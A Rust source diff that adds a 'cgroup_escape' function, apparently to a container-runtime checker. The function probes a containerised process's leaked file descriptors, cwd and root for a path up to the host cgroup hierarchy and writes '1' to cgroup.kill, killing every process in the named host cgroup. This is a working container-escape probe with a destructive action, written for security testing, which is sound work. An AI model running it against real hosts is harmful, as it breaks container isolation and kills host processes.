@@ -265,3 +265,48 @@ pub fn fds() -> io::Result<Value> {
     }
     Ok(Value::Object(out))
 }
+
+/// The cgroup-fd escape: for TARGET (a pid, or `new`: the runtime's helper entering the container, parked on the
+/// fifo FIFO, `-` for none), try to reach the host cgroup NAME (a directory at the root of the host's cgroup2
+/// hierarchy) through every fd, the cwd and the root of TARGET: open `/proc/<pid>/fd/N/<..>*/NAME/cgroup.kill` for
+/// write at every depth and, if that opens, write "1" (which kills every process in NAME). The result lists what
+/// TARGET holds and what was reached; with RESULT `-` it is printed and the checker exits.
+pub fn cgroup_escape(target: &str, release_fifo: &str, result_path: &str, name: &str) -> io::Result<()> {
+    let pid = find_target(target)?;
+    if target == "new" {
+        // The helper appears in /proc as soon as it is forked; give it a moment to reach the fifo.
+        std::thread::sleep(Duration::from_millis(300));
+    }
+    let base = format!("/proc/{pid}");
+    let mut bases: Vec<String> = vec![format!("{base}/cwd"), format!("{base}/root")];
+    let mut held = serde_json::Map::new();
+    for entry in fs::read_dir(format!("{base}/fd"))?.flatten() {
+        let fd = entry.file_name().to_string_lossy().into_owned();
+        let path = format!("{base}/fd/{fd}");
+        let link = fs::read_link(&path).map(|l| l.to_string_lossy().into_owned());
+        held.insert(fd, link.map_or_else(|e| error_value(&e), Value::from));
+        bases.push(path);
+    }
+    let mut reached = Vec::new();
+    for start in &bases {
+        for depth in 0..=12 {
+            let path = format!("{start}/{}{name}/cgroup.kill", "../".repeat(depth));
+            if let Ok(fd) = open_raw(&path, libc::O_WRONLY) {
+                let write = File::from(fd).write_all(b"1");
+                reached.push(json!({
+                    "path": path,
+                    "write": write.map_or_else(|e| error_value(&e), |()| json!("ok")),
+                }));
+                break;
+            }
+        }
+    }
+    let mut result = json!({ "pid": pid, "fds": held, "reached": reached });
+    if release_fifo != "-" {
+        result["released"] = release(release_fifo);
+    }
+    if result_path == "-" {
+        return io::stdout().write_all(format!("{result}\n").as_bytes());
+    }
+    report(result_path, &result)
+}
